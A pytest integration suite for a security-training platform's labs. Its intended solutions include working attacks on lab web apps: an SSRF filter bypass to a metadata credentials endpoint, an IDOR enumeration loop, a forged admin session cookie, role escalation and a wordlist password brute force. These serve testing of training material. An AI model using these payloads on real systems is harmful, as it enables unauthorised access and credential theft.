"""Every check task of every shipped lab on the real engine, run as the platform runs it
(as the container's user unless the lab says `as: root`):

(a) it fails on a fresh start,
(b) it fails when the answer is a symbolic link to an answer file of the image, or to a
    copy of the right answer that only root can read,
(c) it passes with the intended solution, also after the trainee made their home private.
"""

from __future__ import annotations

import re
import shlex
import time
from dataclasses import dataclass

import pytest

from tests.integration.stix_bundles import bundle, write_command

pytestmark = pytest.mark.docker

FLAG = "FLAG{check-tasks}"
AUTH_LOG = "/var/log/auth.log"
INVOICES = PREVIEW = PORTAL = SHOP = PUZZLE = "http://target:8080"
SIGN_IN = (
    "curl -sf -c jar -b jar -o /dev/null --data-urlencode username=alice "
    f"--data-urlencode password=wonderland {INVOICES}/login"
)
# Python that loads ~/case/Security.xml as E: a list of (event id, {field: value}).
SECURITY_EVENTS = (
    "import collections, xml.etree.ElementTree as ET; "
    "n = {'e': 'http://schemas.microsoft.com/win/2004/08/events/event'}; "
    "E = [(v.find('e:System/e:EventID', n).text, "
    "{d.get('Name'): d.text for d in v.findall('e:EventData/e:Data', n)}) "
    "for v in ET.parse('/home/trainee/case/Security.xml').getroot()]; "
    "top = collections.Counter(d['IpAddress'] for i, d in E if i == '4625').most_common(1)[0][0]; "
)
TOP_FAILING_IP = (
    f"grep 'Failed password' {AUTH_LOG} | grep -o 'from [0-9.]*' | sort | uniq -c "
    "| sort -n | tail -1 | awk '{print $3}'"
)


# ad-attack-logs, solved with evtx-xml-to-jsonl, jq and sigma-hunt as the
# windows-ad-detection course teaches (the rule: module 5's, tuned for the lab's legacy app).
DC_EVENTS = "evtx-xml-to-jsonl ~/case/DC01-Security.xml"
RC4_TICKETS = 'select(.EventID == 4769 and .TicketEncryptionType == "0x17")'
ROASTER = (
    f"{DC_EVENTS} | jq -r '{RC4_TICKETS} | \"\\(.TargetUserName)\\t\\(.ServiceName)\"' "
    "| sort -u | cut -f1 | uniq -c | sort -rn | head -1 | awk '{print $2}'"
)
KERBEROASTING_RULE = "\n".join(
    [
        "title: Kerberoasting - RC4 service tickets for user service accounts",
        "logsource: {product: windows, service: security}",
        "detection:",
        "  selection: {EventID: 4769, TicketEncryptionType: '0x17'}",
        "  filter_computer_accounts: {ServiceName|endswith: '$'}",
        "  filter_legacy_app: {TargetUserName|startswith: 'svc-report@'}",
        "  condition: selection and not 1 of filter_*",
    ]
)


@dataclass(frozen=True)
class Solution:
    """How a trainee solves one check task: ``solve`` (a shell command run as ``user``)
    leaves ``path``, which the check then reads (None: the check reads no file)."""

    task: str
    path: str | None
    solve: str
    user: str = "trainee"
    where: str | None = None  # the container ``solve`` runs in (default: the task's)


# pcap-hunt, solved with the tshark commands of the network-traffic-analysis course.
DMZ, WORKSTATION = "~/captures/dmz.pcap", "~/captures/workstation.pcap"
NEW_CONNECTIONS = "-Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0' -T fields"
TOP = "sort | uniq -c | sort -n | tail -1 | awk '{print $2}'"
SCANNER = f"$(tshark -r {DMZ} {NEW_CONNECTIONS} -e ip.src | {TOP})"
C2_ADDRESS = f"$(tshark -r {WORKSTATION} {NEW_CONNECTIONS} -e ip.dst | {TOP})"
LONGEST_QUERY = (
    f"$(tshark -r {WORKSTATION} -Y 'dns.flags.response == 0' -T fields -e dns.qry.name "
    "| awk '{ print length($0), $0 }' | sort -n | tail -1 | awk '{print $2}')"
)

SOLUTIONS: dict[str, list[Solution]] = {
    "shell-basics": [
        Solution(
            "count-errors",
            "/home/trainee/answer.txt",
            "grep -c ERROR ~/logs/app.log > ~/answer.txt",
        ),
        Solution("private-dir", "/home/trainee/reports", "mkdir ~/reports && chmod 700 ~/reports"),
    ],
    "suid-hunt": [Solution("fix-perms", "/srv/app/config", "chmod 600 /srv/app/config")],
    # the trainee reaches the target only through the injection, which runs as `app`
    "web-injection": [Solution("command-injection", "/tmp/pwned", "touch /tmp/pwned", "app")],
    "rogue-listener": [
        Solution(
            "rogue-port",
            "/home/shop/answer-port.txt",
            "ss -Htln | awk '$4 !~ /^127.0.0.11:/ {print $4}' | sed 's/.*://'"
            " | grep -vxE '8080|9100' | sort -u"
            " > ~/answer-port.txt",
            "shop",
        ),
        Solution(
            "stop-rogue",
            None,
            "kill $(ss -Htlnp 'sport = :46211' | grep -o 'pid=[0-9]*' | cut -d= -f2 | sort -u)"
            " && while ss -Htln 'sport = :46211' | grep -q .; do sleep 0.2; done",
            "shop",
        ),
    ],
    "broken-access": [
        Solution(
            "become-admin",
            None,
            f"{SIGN_IN} && curl -sf -b jar -H 'Content-Type: application/json' "
            f"""-d '{{"role": "admin"}}' {INVOICES}/api/profile""",
            where="workstation",
        )
    ],
    "timeline": [
        Solution(
            "login-utc",
            "/home/trainee/answer-login.txt",
            "t=$(grep 'Accepted password' /var/log/auth.log | awk '{print $1, $2, 2024, $3}'); "
            'TZ=UTC date -d "TZ=\\"Europe/Tallinn\\" $t" +%Y-%m-%dT%H:%M:%SZ > ~/answer-login.txt',
        ),
        Solution(
            "shell-utc",
            "/home/trainee/answer-shell.txt",
            "t=$(grep -m1 'GET /uploads/shell.php' /var/log/apache2/access.log | awk '{print $4}' "
            "| tr -d '[' | sed -E 's#^([0-9]+)/([A-Za-z]+)/([0-9]+):#\\1 \\2 \\3 #'); "
            'TZ=UTC date -d "$t UTC" +%Y-%m-%dT%H:%M:%SZ > ~/answer-shell.txt',
        ),
        Solution(
            "persistence",
            "/home/trainee/answer-persistence.txt",
            "grep 'sudo: *deploy' /var/log/auth.log | grep -o '/etc/cron.d/[^ ]*' "
            "> ~/answer-persistence.txt",
        ),
    ],
    "logs-audit": [
        Solution(
            "failed-unit",
            "/home/trainee/answer-unit.txt",
            "journalctl -p err --no-pager | grep -o '[a-z0-9@-]*[.]service: Failed' | head -1 "
            "| cut -d: -f1 > ~/answer-unit.txt",
        ),
        Solution(
            "boot-count",
            "/home/trainee/answer-boots.txt",
            "journalctl --list-boots --no-pager | grep -cE '^ *-?[0-9]+ ' > ~/answer-boots.txt",
        ),
        Solution(
            "sudoers-who",
            "/home/trainee/answer-who.txt",
            "ausearch -if /var/log/audit/audit.log -k sudoers -i | grep -o 'auid=[a-z]*' "
            "| sort -u | cut -d= -f2 > ~/answer-who.txt",
        ),
    ],
    "ssrf": [
        Solution(
            "maintenance-on",
            None,
            "curl -sf -G --data-urlencode 'url=http://127.1:9000/admin/maintenance?mode=on' "
            f"{PREVIEW}/preview",
            where="workstation",
        )
    ],
    "text-triage": [
        Solution(
            "scanner-ip",
            "/home/trainee/answer-scanner.txt",
            "awk '$9 == 404 {print $1}' ~/access.log | sort | uniq -c | sort -rn | head -1 "
            "| awk '{print $2}' > ~/answer-scanner.txt",
        ),
        Solution(
            "server-errors",
            "/home/trainee/answer-errors.txt",
            "awk '$9 == 500' ~/access.log | wc -l > ~/answer-errors.txt",
        ),
        Solution(
            "disguised-file",
            "/home/trainee/answer-file.txt",
            "cd ~/evidence && file * | grep 'PDF document' | cut -d: -f1 > ~/answer-file.txt",
        ),
    ],
    "weak-sessions": [
        Solution(
            "bob-password",
            "/home/trainee/answer-password.txt",
            "while read -r p; do code=$(curl -s -o /dev/null -w '%{http_code}' "
            '--data-urlencode username=bob --data-urlencode "password=$p" '
            f'{PORTAL}/login); [ "$code" = 303 ] && echo "$p"; '
            "done < /usr/share/wordlists/common-passwords.txt > ~/answer-password.txt; true",
        )
    ],
    "windows-logons": [
        Solution(
            "spray-source",
            "/home/trainee/answer-source.txt",
            f'python3 -c "{SECURITY_EVENTS}print(top)" > ~/answer-source.txt',
        ),
        Solution(
            "breached-account",
            "/home/trainee/answer-account.txt",
            f'python3 -c "{SECURITY_EVENTS}'
            "print(*{d['TargetUserName'] for i, d in E if i == '4624' and d['IpAddress'] == top})\""
            " > ~/answer-account.txt",
        ),
        Solution(
            "new-user",
            "/home/trainee/answer-new-user.txt",
            f'python3 -c "{SECURITY_EVENTS}'
            "print(*[d['TargetUserName'] for i, d in E if i == '4720'])\" > ~/answer-new-user.txt",
        ),
    ],
    "ad-attack-logs": [
        Solution(
            "roaster", "/home/trainee/answer-roaster.txt", f"{ROASTER} > ~/answer-roaster.txt"
        ),
        Solution(
            "spn-count",
            "/home/trainee/answer-spn-count.txt",
            f'u=$({ROASTER}); {DC_EVENTS} | jq -r --arg u "$u" '
            f"'{RC4_TICKETS} | select(.TargetUserName == $u) | .ServiceName' | sort -u | wc -l "
            "> ~/answer-spn-count.txt",
        ),
        Solution(
            "pth-host",
            "/home/trainee/answer-pth-host.txt",
            f'{DC_EVENTS} | jq -r \'select(.EventID == 4624 and .LogonType == "3" '
            'and .AuthenticationPackageName == "NTLM" and .KeyLength == "0" '
            'and .TargetUserName != "ANONYMOUS LOGON") | .WorkstationName\' | sort -u '
            "> ~/answer-pth-host.txt",
        ),
        Solution(
            "lsass-reader",
            "/home/trainee/answer-lsass-reader.txt",
            "evtx-xml-to-jsonl ~/case/WS-057-Sysmon.xml | jq -r 'select(.EventID == 10 "
            'and (.TargetImage | test("lsass.exe$"; "i")) and .GrantedAccess == "0x1010") '
            "| .SourceImage' | sort -u > ~/answer-lsass-reader.txt",
        ),
        Solution(
            "sigma-rule",
            "/home/trainee/kerberoasting.yml",
            f"cat > ~/kerberoasting.yml <<'RULE'\n{KERBEROASTING_RULE}\nRULE",
        ),
    ],
    "misconfig": [
        Solution(
            "git-password",
            "/home/trainee/answer-git-password.txt",
            f"curl -s {SHOP}/.git/config | grep -o 'url = https://[^@]*' | cut -d: -f3 "
            "> ~/answer-git-password.txt",
        )
    ],
    "http-basics": [
        Solution(
            "cookie-attribute",
            "/home/trainee/answer-attribute.txt",
            f"curl -si -X POST {PUZZLE}/door | grep -i '^set-cookie:' | grep -qvi httponly "
            "&& echo HttpOnly > ~/answer-attribute.txt",
        )
    ],
    "log-formats": [
        Solution(
            "reset-utc",
            "/home/trainee/answer-reset.txt",
            'ts=$(jq -r \'select(.event == "password_reset" and .user == "m.ng") | .ts\' '
            "~/case/app.json); date -u -d @$((ts / 1000)) +%Y-%m-%dT%H:%M:%SZ > ~/answer-reset.txt",
        ),
        Solution(
            "guesses",
            "/home/trainee/answer-guesses.txt",
            "ip=$(jq -r 'select(.event == \"password_reset\") | .ip' ~/case/app.json); "
            'jq -r --arg ip "$ip" '
            '\'select(.event == "login_failed" and .user == "m.ng" and .ip == $ip) | .ts\' '
            "~/case/app.json | wc -l > ~/answer-guesses.txt",
        ),
        Solution(
            "pwdlastset-utc",
            "/home/trainee/answer-pwdlastset.txt",
            "ft=$(grep '^j.tan,' ~/case/ad-users.csv | cut -d, -f2); "
            "date -u -d @$((ft / 10000000 - 11644473600)) +%Y-%m-%dT%H:%M:%SZ "
            "> ~/answer-pwdlastset.txt",
        ),
    ],
    "log-triage": [
        Solution(
            "attacker-ip", "/home/trainee/answer-ip.txt", f"{TOP_FAILING_IP} > ~/answer-ip.txt"
        ),
        Solution(
            "compromised-user",
            "/home/trainee/answer-user.txt",
            f'ip=$({TOP_FAILING_IP}); grep "Accepted .* from $ip " {AUTH_LOG} '
            "| awk '{print $9}' | sort -u > ~/answer-user.txt",
        ),
    ],
    "pcap-hunt": [
        Solution(
            "scanner-ip",
            "/home/trainee/answer-scanner.txt",
            f"echo {SCANNER} > ~/answer-scanner.txt",
        ),
        Solution(
            "scanner-traffic",
            "/home/trainee/scanner.pcap",
            f'tcpdump -r {DMZ} -w ~/scanner.pcap "host {SCANNER}"',
        ),
        Solution(
            "open-ports",
            "/home/trainee/answer-open-ports.txt",
            f'tshark -r {DMZ} -Y "ip.dst == {SCANNER} && tcp.flags.syn == 1 && tcp.flags.ack == 1" '
            "-T fields -e tcp.srcport | sort -nu | paste -sd, - > ~/answer-open-ports.txt",
        ),
        Solution(
            "admin-password",
            "/home/trainee/answer-password.txt",
            f"stream=$(tshark -r {DMZ} -Y 'http.request.method == \"POST\"' -T fields -e tcp.stream); "
            f"tshark -r {DMZ} -q -z follow,tcp,ascii,$stream | grep -o 'password=[^&]*' | cut -d= -f2 "
            "> ~/answer-password.txt",
        ),
        Solution(
            "c2-domain",
            "/home/trainee/answer-c2-domain.txt",
            f'tshark -r {WORKSTATION} -Y "dns.a == {C2_ADDRESS}" -T fields -e dns.qry.name '
            "> ~/answer-c2-domain.txt",
        ),
        Solution(
            "beacon-interval",
            "/home/trainee/answer-interval.txt",
            f'tshark -r {WORKSTATION} -Y "ip.dst == {C2_ADDRESS} && tcp.flags.syn == 1 && '
            'tcp.flags.ack == 0" -T fields -e frame.time_epoch '
            "| awk 'NR > 1 { s += $1 - p; n++ } { p = $1 } END { print s / n }' > ~/answer-interval.txt",
        ),
        Solution(
            "exfil-file",
            "/home/trainee/answer-exfil-file.txt",
            f"domain=$(echo {LONGEST_QUERY} | cut -d. -f3-); "
            f'tshark -r {WORKSTATION} -Y "dns.flags.response == 0 && dns.qry.name contains \\"$domain\\"" '
            "-T fields -e dns.qry.name | grep '^0\\.' | cut -d. -f2 | tr a-z A-Z | base32 -d "
            "> ~/answer-exfil-file.txt",
        ),
    ],
    "stix-bundle": [
        Solution(task, "/home/trainee/bundle.json", write_command(bundle(steps)))
        for steps, task in enumerate(["indicator", "technique", "marking"], start=1)
    ],
}


# What "started" means for a lab whose services take a moment (a trainee reads first).
READY = {
    "rogue-listener": "ss -Htln | grep -q ':8080 ' && ss -Htln | grep -q ':9100 '",
    "broken-access": f"curl -sf -o /dev/null {INVOICES}/login",
    "ssrf": f"curl -sf -o /dev/null {PREVIEW}/",
    "weak-sessions": f"curl -sf -o /dev/null {PORTAL}/login",
    "misconfig": f"curl -sf -o /dev/null {SHOP}/",
    "http-basics": f"curl -sf -o /dev/null {PUZZLE}/",
}


def wait_ready(lab_exec, key: str, slug: str, container: str, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while slug in READY and lab_exec(key, container, READY[slug], "0")[0] != 0:
        assert time.monotonic() < deadline, f"{slug} did not get ready"
        time.sleep(0.3)


def test_every_check_task_of_every_shipped_lab_has_a_solution_here(shipped_labs):
    # team labs are solved role by role in their own tests (test_web_breach_lab.py)
    checks = {
        (slug, task.id)
        for slug, spec in shipped_labs.items()
        for task in spec.tasks
        if task.type == "check" and not spec.is_team
    }
    assert checks == {(slug, s.task) for slug, found in SOLUTIONS.items() for s in found}


@pytest.mark.parametrize("slug", sorted(SOLUTIONS))
def test_check_tasks_cannot_be_fooled(slug, docker_runtime, lab_session, lab_exec, shipped_labs):
    spec = shipped_labs[slug]
    key = lab_session(spec, FLAG).session_key
    wait_ready(lab_exec, key, slug, spec.workstation)

    def passed(task_id: str) -> bool:
        task = spec.task(task_id)
        result = docker_runtime.run_check(
            key, task.container, task.run, task.timeout_seconds, user=spec.check_user(task)
        )
        return result.passed

    def run(container: str, command: str, user: str) -> str:
        code, output = lab_exec(key, container, command, user)
        assert code == 0, (command, output)
        return output

    for solution in SOLUTIONS[slug]:
        task = spec.task(solution.task)
        where, user = task.container, solution.user
        assert not passed(task.id), f"{task.id} passes on a fresh start"
        if solution.path is None:
            run(solution.where or where, solution.solve, user)
            assert passed(task.id), f"{task.id} fails with the intended solution"
            continue
        path = shlex.quote(solution.path)

        answer_files = run(where, "find /var/lib/lab -type f 2>/dev/null || true", "0").split()
        for answer in answer_files:
            lab_exec(key, where, f"rm -rf {path}; ln -s {answer} {path}", user)
            assert not passed(task.id), f"{task.id} passes with a link to {answer}"
        lab_exec(key, where, f"rm -rf {path}", user)

        run(where, solution.solve, user)
        assert passed(task.id), f"{task.id} fails with the intended solution"

        if lab_exec(key, where, f'test -w "$(dirname {path})"', user)[0] == 0:
            # the right answer, where only root can read it, behind a link
            copy = f"/root/copy-of-{task.id}"
            run(where, f"if [ -d {path} ]; then mkdir {copy}; else cat {path} > {copy}; fi", "0")
            run(where, f"mv {path} {path}.mine && ln -s {copy} {path}", user)
            assert not passed(task.id), f"{task.id} passes with a link to root's copy"
            run(where, f"rm {path} && mv {path}.mine {path}", user)
            assert passed(task.id)

    workstation = spec.containers[spec.workstation]
    if workstation.user and (workstation.workdir or "").startswith("/home/"):
        run(spec.workstation, f"chmod 700 {workstation.workdir}", workstation.user)
        for solution in SOLUTIONS[slug]:
            if spec.task(solution.task).container == spec.workstation:
                assert passed(solution.task), f"{solution.task} fails once the home is 700"


def test_rogue_listener_program_is_recovered_from_proc(lab_session, lab_exec, shipped_labs):
    spec = shipped_labs["rogue-listener"]
    key = lab_session(spec, FLAG).session_key
    search = f"grep -rlF '{FLAG}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null"
    assert lab_exec(key, "main", search, "shop")[1].strip() == ""  # no copy left on disk
    code, ps = lab_exec(key, "main", "ps -eo user,args", "shop")
    assert "shop     [kworker/u4:2] -lk 46211" in ps
    pid = "$(ss -Htlnp 'sport = :46211' | grep -o 'pid=[0-9]*' | cut -d= -f2 | head -1)"
    code, link = lab_exec(key, "main", f"ls -l /proc/{pid}/exe", "shop")
    assert code == 0 and "(deleted)" in link, link
    code, out = lab_exec(
        key,
        "main",
        f"cp /proc/{pid}/exe ~/evidence.bin && grep -a -o 'FLAG{{[^}}]*}}' ~/evidence.bin",
        "shop",
    )
    assert code == 0 and out.strip() == FLAG


def test_broken_access_flag_through_idor(lab_session, lab_exec, shipped_labs):
    spec = shipped_labs["broken-access"]
    key = lab_session(spec, FLAG).session_key
    wait_ready(lab_exec, key, "broken-access", "workstation")
    code, _ = lab_exec(key, "workstation", SIGN_IN)
    assert code == 0
    mine = lab_exec(key, "workstation", f"curl -s -b jar {INVOICES}/")[1]
    assert "api/invoices/1042" in mine and "1047" not in mine
    loop = f"for i in $(seq 1035 1050); do curl -s -b jar {INVOICES}/api/invoices/$i; echo; done"
    assert FLAG in lab_exec(key, "workstation", loop)[1]
    denied = lab_exec(
        key, "workstation", f"curl -s -o /dev/null -w '%{{http_code}}' {INVOICES}/api/invoices/1047"
    )[1]
    assert denied == "303"  # signed out: sent to the login page
    users = lab_exec(key, "workstation", f"curl -s -b jar {INVOICES}/api/admin/users")[1]
    assert '"username": "admin"' in users  # the missing function-level check


def test_timeline_refuses_local_time_for_utc(docker_runtime, lab_session, lab_exec, shipped_labs):
    spec = shipped_labs["timeline"]
    key = lab_session(spec).session_key
    task = spec.task("login-utc")
    lab_exec(key, "main", "echo 2024-05-14T10:41:07Z > ~/answer-login.txt")  # auth.log's local time
    result = docker_runtime.run_check(
        key, "main", task.run, task.timeout_seconds, user=spec.check_user(task)
    )
    assert not result.passed
    _, found = lab_exec(
        key,
        "main",
        "TZ=UTC find /etc /var/www -newermt '2024-05-14 07:41' ! -newermt '2024-05-14 08:30' -type f 2>/dev/null",
    )
    assert sorted(found.split()) == ["/etc/cron.d/.sys-update", "/var/www/html/uploads/shell.php"]


def test_ssrf_filter_is_bypassed_for_the_metadata_secret(lab_session, lab_exec, shipped_labs):
    spec = shipped_labs["ssrf"]
    key = lab_session(spec, FLAG).session_key
    wait_ready(lab_exec, key, "ssrf", "workstation")
    base = "http://{}:9000/latest/meta-data/iam/security-credentials/"

    def preview(url: str) -> str:
        command = f"curl -s -G --data-urlencode 'url={url}' {PREVIEW}/preview"
        return lab_exec(key, "workstation", command)[1]

    assert "not allowed" in preview(base.format("127.0.0.1"))
    assert "not allowed" in preview(base.format("LocalHost"))
    assert "shop-preview-role" in preview(base.format("2130706433"))
    assert FLAG in preview(base.format("0x7f000001") + "shop-preview-role")
    code, _ = lab_exec(key, "workstation", "curl -s -m 3 http://target:9000/")
    assert code != 0  # the internal service is not reachable from outside


def test_weak_sessions_cookie_is_forged_for_the_flag(lab_session, lab_exec, shipped_labs):
    spec = shipped_labs["weak-sessions"]
    key = lab_session(spec, FLAG).session_key
    wait_ready(lab_exec, key, "weak-sessions", "workstation")
    sign_in = (
        "curl -s -c jar -o /dev/null --data-urlencode username=alice "
        f"--data-urlencode password=wonderland {PORTAL}/login && "
        "awk '$6 == \"session\" {print $7}' jar | base64 -d"
    )
    assert lab_exec(key, "workstation", sign_in)[1] == '{"user": "alice", "role": "staff"}'
    denied = f"curl -s -b jar -o /dev/null -w '%{{http_code}}' {PORTAL}/admin"
    assert lab_exec(key, "workstation", denied)[1] == "403"
    forged = (
        'cookie=$(printf %s \'{"user": "admin", "role": "admin"}\' | base64 -w0); '
        f'curl -s -b "session=$cookie" {PORTAL}/admin'
    )
    assert FLAG in lab_exec(key, "workstation", forged)[1]


def test_misconfig_backup_and_headers(lab_session, lab_exec, shipped_labs):
    spec = shipped_labs["misconfig"]
    key = lab_session(spec, FLAG).session_key
    wait_ready(lab_exec, key, "misconfig", "workstation")
    headers = lab_exec(key, "workstation", f"curl -sI {SHOP}/")[1]
    assert "Server: Apache/2.4.49" in headers and "Content-Security-Policy" not in headers
    robots = lab_exec(key, "workstation", f"curl -s {SHOP}/robots.txt")[1]
    assert "/backup/" in robots
    listing = lab_exec(key, "workstation", f"curl -s {SHOP}/backup/")[1]
    dump = re.search(r'href="([^"]+\.sql)"', listing).group(1)
    assert FLAG in lab_exec(key, "workstation", f"curl -s {SHOP}/backup/{dump}")[1]
    assert "Traceback" in lab_exec(key, "workstation", f"curl -s {SHOP}/search")[1]


def test_http_basics_vault_needs_method_cookie_and_header(lab_session, lab_exec, shipped_labs):
    spec = shipped_labs["http-basics"]
    key = lab_session(spec, FLAG).session_key
    wait_ready(lab_exec, key, "http-basics", "workstation")

    def curl(args: str) -> str:
        return lab_exec(key, "workstation", f"curl -s {args}")[1]

    assert "405" in curl(f"-o /dev/null -w '%{{http_code}}' {PUZZLE}/door")
    assert "Only the door" in curl(f"-c jar -b jar -L -X POST {PUZZLE}/door")  # POST kept
    hall = curl(f"-c jar -b jar -L -d '' {PUZZLE}/door")
    assert "X-Knock: three-short-one-long" in hall
    assert "Wrong knock" in curl(f"-b jar {PUZZLE}/vault")
    assert "No cookie" in curl(f"-H 'X-Knock: three-short-one-long' {PUZZLE}/vault")
    assert FLAG in curl(f"-b jar -H 'X-Knock: three-short-one-long' {PUZZLE}/vault")
